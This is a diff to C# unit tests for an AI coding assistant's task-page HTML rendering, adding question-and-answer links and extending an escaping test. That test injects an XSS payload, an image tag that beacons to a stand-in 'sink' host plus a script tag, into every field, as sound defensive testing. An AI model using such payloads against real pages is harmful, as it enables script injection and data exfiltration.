@@ -4,6 +4,7 @@ using CodeAssist.Core.Agent.Models;
 using CodeAssist.Core.Review.Changes;
 using CodeAssist.Core.Spending;
 using CodeAssist.Server.Features.Delegating;
+using CodeAssist.Server.Features.Dialogs;
 
 namespace CodeAssist.Server.Tests.Features.Delegating;
 
@@ -42,12 +43,27 @@ public sealed class TaskPageTests
     }
 
     [Fact]
+    public void What_waits_for_a_word_stands_first_with_a_link_for_each_answer()
+    {
+        using var question = new PageQuestion("Run npm test", "npm test\nin web", ["Allow", "No"], static _ => { });
+
+        var page = TaskPage.Of("Make it add.", [], "Run npm test, as soon as you allow it", question);
+
+        Assert.InRange(page.IndexOf("<h2>Run npm test</h2>", StringComparison.Ordinal), 0, page.IndexOf("<h2>State</h2>", StringComparison.Ordinal));
+        Assert.Contains($"<a href=\"command:codeassist.answer?%5B%22{question.Id}%22%2C0%5D\">Allow</a> <a href=\"command:codeassist.answer?%5B%22{question.Id}%22%2C1%5D\">No</a>", page, StringComparison.Ordinal);
+        Assert.DoesNotContain("<a ", TaskPage.Of("Make it add.", [], "Run npm test"), StringComparison.Ordinal);
+    }
+
+    [Fact]
     public void Case_12_what_models_and_files_say_is_text()
     {
         const string Evil = "<img src=https://sink/?d=CANARY><script>evil()</script>";
         var step = new TranscriptEntry.Step(1, Evil, Evil, [new CallRecord(new AgentCall("1", Evil, "{}"), CallEnd.Faulty, Evil, [Evil]) { Diff = Evil }], ModelSpending.None);
 
         var page = TaskPage.Of(Evil, [step, new TranscriptEntry.Checked(IsSound: false, Evil)], new AgentEnd(AgentEndReason.Stuck, Evil), Evil, [new FileDifference(Evil, ChangeKind.Added, Evil)]);
+
+        using var question = new PageQuestion(Evil, Evil, ["Allow"], static _ => { });
+        page += TaskPage.Of(Evil, [], Evil, question);
 
         Assert.DoesNotContain("<img", page, StringComparison.Ordinal);
         Assert.DoesNotContain("<script", page, StringComparison.Ordinal);
